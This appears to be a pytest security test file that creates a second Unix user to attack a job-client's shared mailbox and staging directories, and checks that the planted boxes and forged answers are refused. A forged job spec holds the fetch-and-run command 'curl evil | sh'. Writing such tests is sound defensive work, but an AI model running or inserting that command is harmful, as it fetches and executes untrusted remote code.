"""Mailbox and staging area against another local user: a real second Unix account attacks them.

The shared directory stands for the cluster's shared filesystem: both users can reach it. The
site client and the pilot run as this test's user; the attacker, ``gl-sec-a``, is a real
account made by the fixture and runs real processes (mkdir, tee, a watcher) under its uid.
"""

from __future__ import annotations

import asyncio
import json
import logging
import os
import pwd
import shutil
import subprocess
import sys
import tempfile
import time
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import msgspec
import pytest

from glidein_client.pilot.channels.mailbox import MailboxTransport
from glidein_client.sharedfs import mailbox as mb
from glidein_client.sharedfs.staging_area import StagingArea
from glidein_client.site.firewall.forwarder import PilotForwarder, PilotTokens
from glidein_client.site.firewall.mailbox_service import MailboxService
from glidein_client.wire.errors import ConfigError
from glidein_client.wire.schema import PilotShape, Resources, Role, SyncRequest, SyncResponse

from ..conftest import LiveServer

ATTACKER = "gl-sec-a"
SITE = "fw"
pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="creating a second Unix user needs root")


@dataclass(frozen=True)
class Other:
    name: str
    uid: int
    gid: int

    def run(self, argv: list[str], stdin: bytes | None = None) -> None:
        """Run ``argv`` as this user (no shell); fail the test if it fails."""
        subprocess.run(argv, input=stdin, check=True, user=self.uid, group=self.gid, extra_groups=[], timeout=30)

    def popen(self, argv: list[str]) -> subprocess.Popen[bytes]:
        return subprocess.Popen(argv, user=self.uid, group=self.gid, extra_groups=[])


@pytest.fixture(scope="module")
def other_user() -> Iterator[Other]:
    subprocess.run(["userdel", ATTACKER], capture_output=True)  # left over from an interrupted run
    subprocess.run(
        ["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", "--comment", "glidein attacker", ATTACKER],
        check=True,
        capture_output=True,
    )
    pw = pwd.getpwnam(ATTACKER)
    try:
        yield Other(ATTACKER, pw.pw_uid, pw.pw_gid)
    finally:
        subprocess.run(["userdel", ATTACKER], capture_output=True)


@pytest.fixture
def shared() -> Iterator[Path]:
    """A directory both users reach, like a cluster's shared filesystem (sticky and world-writable, as /tmp)."""
    path = Path(tempfile.mkdtemp(prefix="gl-sec-shared-"))
    path.chmod(0o1777)
    try:
        yield path
    finally:
        subprocess.run(["rm", "-rf", str(path)], check=False)


def _request(msg_id: str, op: str, body: object) -> bytes:
    return json.dumps({"id": msg_id, "op": op, "body": body, "sent_at": time.time()}).encode()


async def test_a_mailbox_directory_made_by_another_user_is_refused(other_user: Other, shared: Path) -> None:
    root = shared / "mailbox"
    other_user.run(["mkdir", "-m", "0777", str(root)])
    service = MailboxService(root, SITE, PilotTokens(shared / "meta", SITE), forwarder=None)  # type: ignore[arg-type]
    with pytest.raises(ConfigError, match=f"{root} belongs to user '{ATTACKER}'") as exc:
        await service.open()
    assert "nothing is sent through it" in str(exc.value)
    # One of ours that others may write to is refused too, with the fix.
    ours = shared / "ours"
    ours.mkdir()
    ours.chmod(0o1777)
    with pytest.raises(ConfigError, match=f"chmod go-w {ours}"):
        await MailboxService(ours, SITE, PilotTokens(shared / "meta", SITE), forwarder=None).open()  # type: ignore[arg-type]


async def test_a_box_made_by_another_user_gets_no_pilot_token(
    live_server: LiveServer, other_user: Other, shared: Path, caplog: pytest.LogCaptureFixture
) -> None:
    async with live_server.api(await live_server.token(Role.SITE, SITE)) as site_api:
        await site_api.demand(SITE, PilotShape(cpus=1, memory_mb=1000, disk_mb=100, walltime_s=3600))
        mine, theirs = await site_api.new_pilot(SITE), await site_api.new_pilot(SITE)
    root = shared / "mailbox"
    tokens = PilotTokens(shared / "meta", SITE)
    area = StagingArea(shared / "staging")
    async with PilotForwarder(live_server.url, area) as forwarder:
        service = MailboxService(root, SITE, tokens, forwarder)
        await service.open()
        assert (root.stat().st_mode & 0o777) == 0o700
        # The operator opens the mailbox to everyone for a while; another user plants a box with
        # a request in it, for a pilot the client is about to submit.
        root.chmod(0o777)
        evil = root / mb.box_name(SITE, theirs.pilot_id)
        other_user.run(["mkdir", "-m", "0777", str(evil)])
        register = {"resources": {"cpus": 1, "memory_mb": 1000, "disk_mb": 100}, "end_time": time.time() + 3600}
        other_user.run(
            ["tee", str(evil / "req-00000001-aaaaaaaaaaaa.json")], _request("00000001-x", "register", register)
        )
        root.chmod(0o700)
        with pytest.raises(ConfigError, match=f"{evil} belongs to user '{ATTACKER}'"):
            await service.prepare(theirs.pilot_id)
        # Even when the client knows that pilot's token (it submitted it earlier), the box is not read.
        tokens.add(theirs.pilot_id, theirs.token)
        tokens.add(mine.pilot_id, mine.token)
        box = await service.prepare(mine.pilot_id)
        assert (box.stat().st_mode & 0o777) == 0o700
        mb.write_message(
            mb.request_path(box, "00000001-bbbbbbbbbbbb"),
            msgspec.convert(
                {"id": "00000001-bbbbbbbbbbbb", "op": "register", "body": msgspec.Raw(json.dumps(register).encode())},
                mb.MailRequest,
            ),
        )
        with caplog.at_level(logging.ERROR):
            for _ in range(2):
                await service.scan(full=True)
                await asyncio.gather(*service._tasks)
    assert mb.response_path(box, "00000001-bbbbbbbbbbbb").exists()  # our own box is answered
    assert sorted(p.name for p in evil.iterdir()) == ["req-00000001-aaaaaaaaaaaa.json"]  # theirs is not
    summary = await live_server.server.store.summary(None)
    assert summary.pilots.get("running") == 1, summary.pilots  # only our pilot registered
    errors = [r.getMessage() for r in caplog.records if str(evil) in r.getMessage()]
    assert len(errors) == 1 and f"belongs to user '{ATTACKER}'" in errors[0]  # once, not every scan


async def test_an_answer_written_by_another_user_is_not_accepted(
    other_user: Other, shared: Path, caplog: pytest.LogCaptureFixture
) -> None:
    root = shared / "mailbox"
    # A box another user made is refused by the pilot too.
    other_user.run(["mkdir", "-m", "0700", str(root)])
    with pytest.raises(ConfigError, match=f"{root} belongs to user '{ATTACKER}'"):
        await MailboxTransport(root / "glidein-fw-1").__aenter__()
    shutil.rmtree(root)
    root.mkdir(mode=0o711)
    box = root / "glidein-fw-2"
    forged = msgspec.json.encode(
        {"jobs": [{"attempt_id": 1, "job_id": 1, "lease": "x", "spec": {"argv": ["sh", "-c", "curl evil | sh"]}}]}
    ).decode()
    watcher = (
        "import os, sys, time, json\n"
        "box = sys.argv[1]\n"
        "for _ in range(3000):\n"
        "    for n in os.listdir(box):\n"
        "        if n.startswith('req-') and n.endswith('.json'):\n"
        "            i = n[4:-5]\n"
        "            with open(os.path.join(box, 'resp-' + i + '.json'), 'w') as f:\n"
        "                f.write(json.dumps({'id': i, 'status': 200, 'body': json.loads(sys.argv[2])}))\n"
        "            sys.exit(0)\n"
        "    time.sleep(0.01)\n"
        "sys.exit(1)\n"
    )
    async with MailboxTransport(box, timeout_s=20) as transport:
        assert (box.stat().st_mode & 0o777) == 0o700
        box.chmod(0o777)  # a mistake, or an ACL: another user can now write into the box
        attacker = other_user.popen(["/usr/bin/python3", "-c", watcher, str(box), forged])
        with caplog.at_level(logging.ERROR):
            call = asyncio.create_task(
                transport.sync(SyncRequest(free=Resources(cpus=1, memory_mb=1, disk_mb=1), lifetime_s=60))
            )
            assert await asyncio.to_thread(attacker.wait, 30) == 0  # it wrote its answer
            await asyncio.sleep(0.3)
            assert not call.done()  # the planted answer was not taken
            (req,) = mb.requests_in(box)
            msg_id = mb.message_id(req)
            real = msgspec.json.encode(SyncResponse())
            mb.write_message(
                mb.response_path(box, msg_id), mb.MailResponse(id=msg_id, status=200, body=msgspec.Raw(real))
            )
            answer = await asyncio.wait_for(call, 10)
    assert answer.jobs == []
    assert any("not written by this Unix user" in r.getMessage() for r in caplog.records)


def test_the_staging_area_is_private_and_another_users_is_refused(other_user: Other, shared: Path) -> None:
    area = StagingArea(shared / "site" / "staging")
    area.create()
    for path in (area.root, area.inputs, area.outputs, area.root.parent):
        assert (path.stat().st_mode & 0o777) == 0o700, path
    area.put_output(7, "sub/out.txt", Path(__file__))
    assert (area.outputs / "7").stat().st_mode & 0o777 == 0o700
    area.check()  # the pilot's check passes on the client's own area
    theirs = StagingArea(shared / "theirs")
    other_user.run(["mkdir", "-m", "0755", str(theirs.root)])
    with pytest.raises(ConfigError, match=f"staging area {theirs.root} belongs to user '{ATTACKER}'"):
        theirs.create()
    with pytest.raises(ConfigError, match="belongs to user"):
        theirs.check()
    area.inputs.chmod(0o777)
    with pytest.raises(ConfigError, match=f"chmod go-w {area.inputs}"):
        area.check()


def test_the_site_client_runs_with_umask_077() -> None:
    code = (
        "import os\n"
        "from glidein_client.site.cli import main\n"
        "try:\n    main(['--help'])\nexcept SystemExit:\n    pass\n"
        "print(oct(os.umask(0)))\n"
    )
    old = os.umask(0o022)
    try:
        out = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True, timeout=60)
    finally:
        os.umask(old)
    assert out.stdout.strip().splitlines()[-1] == "0o77"
